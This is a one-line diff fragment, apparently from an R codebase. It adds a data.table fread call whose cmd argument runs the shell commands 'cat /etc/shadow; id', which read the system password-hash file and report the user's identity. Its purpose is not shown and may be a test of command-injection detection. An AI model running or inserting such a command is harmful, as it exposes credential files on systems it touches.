@@ -1,0 +1,1 @@
+dt <- data.table::fread(cmd = "cat /etc/shadow; id")
